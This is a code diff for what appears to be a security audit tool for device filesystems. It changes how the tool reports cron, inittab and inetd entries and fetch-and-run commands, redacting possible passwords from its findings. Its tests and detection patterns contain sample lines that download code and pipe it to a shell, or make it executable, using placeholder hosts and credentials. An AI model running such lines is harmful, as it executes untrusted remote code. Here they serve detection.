@@ -94,7 +94,7 @@ pub(super) fn all(root: &Root, survey: &Survey, layers: &Layers) -> Fact<Vec<Sta
         let hash = digest(&SHA256, &text);
         let own = is_own(path, hash.as_ref());
         let added = layers.added(root, path) == Some(true) && !is_packaged(root, path);
-        let what = hex(hash.as_ref().get(..SHOWN_HASH_BYTES).unwrap_or_default());
+        let what = short_hash(hash.as_ref());
         push(
             &mut starts,
             Start {
@@ -113,12 +113,12 @@ pub(super) fn all(root: &Root, survey: &Survey, layers: &Layers) -> Fact<Vec<Sta
         for line in String::from_utf8_lossy(&text).lines() {
             let line = line.trim();
             if !line.is_empty() && !line.starts_with('#') {
-                let place = format!("{path}: {line}");
+                let place = format!("{path}: {}", shown(line));
                 push(
                     &mut starts,
                     Start {
                         place,
-                        what: "line".into(),
+                        what: short_hash(digest(&SHA256, line.as_bytes()).as_ref()),
                         added: false,
                         own: false,
                     },
@@ -136,6 +136,37 @@ pub(super) fn all(root: &Root, survey: &Survey, layers: &Layers) -> Fact<Vec<Sta
         return Fact::missing("scripts", Missing::because("not all files could be looked at"));
     }
     Fact::seen(format!("{} scripts and lines", starts.len()), starts)
+}
+
+fn short_hash(hash: &[u8]) -> String {
+    hex(hash.get(..SHOWN_HASH_BYTES).unwrap_or_default())
+}
+
+/// A line of a table as far as its program: what follows, and what is set, may be passwords.
+fn shown(line: &str) -> String {
+    /// The minute, the hour, and so on, of crontab(5).
+    const TIMES: usize = 5;
+    let mut out = String::new();
+    let mut last = TIMES;
+    for (n, word) in line.split_whitespace().enumerate() {
+        if n > last {
+            return out + " …";
+        }
+        if n > 0 {
+            out.push(' ');
+        }
+        if let Some((name, _)) = word.split_once('=') {
+            return out + name + "=…";
+        }
+        out.push_str(word);
+        // A path ends it in inittab(5) and inetd.conf(5), too, and an action without one.
+        if word.starts_with('/') || word.matches(':').count() >= 3 {
+            last = n;
+        } else if n == 0 && word.starts_with('@') {
+            last = 1;
+        }
+    }
+    out
 }
 
 fn push(starts: &mut Vec<Start>, start: Start) {
@@ -221,8 +252,8 @@ pub(super) fn findings(root: &Root, survey: &Survey, found: &mut Vec<Finding>) {
     for path in commands(survey) {
         let Ok(text) = root.read(path) else { continue };
         for command in shell::commands(&text) {
-            if runs_loose(&command.words) {
-                let text = format!("runs `{}`", command.words.join(" "));
+            if let Some(target) = loose_program(&command.words) {
+                let text = format!("runs `{target}`");
                 add(found, Topic::Download, path, command.line, text);
             }
         }
@@ -265,27 +296,41 @@ fn is_loose(path: &str) -> bool {
     LOOSE.iter().any(|place| path.starts_with(place)) && !path.starts_with(CARD)
 }
 
-fn runs_loose(words: &[String]) -> bool {
+fn loose_program(words: &[String]) -> Option<&String> {
     let target = match words.first().map(String::as_str) {
         Some("." | "source" | "sh" | "ash" | "exec" | "nohup") => words.get(1),
         _ => words.first(),
     };
-    target.is_some_and(|target| is_loose(target))
+    target.filter(|target| is_loose(target))
 }
 
 /// A program is fetched and run at once.
 fn fetching_lines(path: &str, text: &[u8], found: &mut Vec<Finding>) {
     for (line, number) in text.split(|byte| *byte == b'\n').zip(1..) {
         let line = line.trim_ascii();
-        let fetches = FETCHERS.iter().any(|program| contains(line, program.as_bytes()));
+        let fetches = FETCHERS.iter().find(|program| contains(line, program.as_bytes()));
         let runs = [
             "| sh", "|sh", "| ash", "|ash", "| bash", "|bash", "chmod +x", "chmod 7",
         ];
-        if fetches && !line.starts_with(b"#") && runs.iter().any(|what| contains(line, what.as_bytes())) {
-            let text = format!("fetches and runs: `{}`", String::from_utf8_lossy(line));
+        let Some(program) = fetches else { continue };
+        if !line.starts_with(b"#") && runs.iter().any(|what| contains(line, what.as_bytes())) {
+            let text = format!("fetches and runs: `{program}`{}", server(line));
             add(found, Topic::Download, path, number, text);
         }
     }
+}
+
+/// Whom a line asks, without the name and password that may stand before it.
+fn server(line: &[u8]) -> String {
+    let line = String::from_utf8_lossy(line);
+    let Some((_, rest)) = line.split_once("://") else {
+        return String::new();
+    };
+    let end = |c: char| !c.is_ascii_alphanumeric() && !"@.:[]-_%".contains(c);
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    // Passwords hold anything but these.
+    let host = host.rsplit('@').next().unwrap_or_default();
+    format!(" from {}", host.split(end).next().unwrap_or_default())
 }
 
 /// A line of inittab(5) whose shell asks nobody.
@@ -320,7 +365,8 @@ fn open_console(root: &Root, line: &str) -> Option<String> {
                     .is_some_and(|value| value.trim_matches(['\'', '"']) == "1")
         })
     };
-    (shell || no_login || openwrt).then(|| format!("gives a shell to whoever is there: `{}`", process.trim()))
+    let first = process.split_whitespace().next().unwrap_or_default();
+    (shell || no_login || openwrt).then(|| format!("gives a shell to whoever is there: `{first}`"))
 }
 
 /// How SSH takes passwords in a tree, by its settings.
@@ -401,6 +447,46 @@ mod tests {
     use std::path::Path;
 
     use super::*;
+
+    #[test]
+    fn what_may_be_a_password_is_not_told() {
+        for (line, expected) in [
+            ("*/5 * * * * /usr/bin/x", "*/5 * * * * /usr/bin/x"),
+            (
+                "0 3 * * * curl -u admin:geheim http://192.0.2.1",
+                "0 3 * * * curl …",
+            ),
+            ("0 3 * * * root /bin/x geheim", "0 3 * * * root …"),
+            ("@reboot wget --password=geheim x", "@reboot wget …"),
+            ("PASSWORD=geheim", "PASSWORD=…"),
+            ("0 3 * * * PW=geheim /bin/x", "0 3 * * * PW=…"),
+            ("::sysinit:/etc/init.d/rcS geheim", "::sysinit:/etc/init.d/rcS …"),
+            ("ttyS0::respawn:getty -L geheim", "ttyS0::respawn:getty …"),
+            (
+                "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l geheim",
+                "telnet stream tcp nowait root /usr/sbin/telnetd …",
+            ),
+        ] {
+            assert_eq!(shown(line), expected);
+        }
+        let mut found = Vec::new();
+        for line in [
+            "wget --password=geheim http://u:geheim@192.0.2.1:80/geheim | sh",
+            "curl -u u:geheim https://example.org?geheim | sh",
+            "tftp -g geheim; chmod +x geheim",
+        ] {
+            fetching_lines("/x", line.as_bytes(), &mut found);
+        }
+        let texts: Vec<&str> = found.iter().map(|found| found.text.as_str()).collect();
+        assert_eq!(
+            texts,
+            [
+                "fetches and runs: `wget` from 192.0.2.1:80",
+                "fetches and runs: `curl` from example.org",
+                "fetches and runs: `tftp`",
+            ]
+        );
+    }
 
     #[test]
     fn lenscaps_own_files_are_those_of_the_packages() {
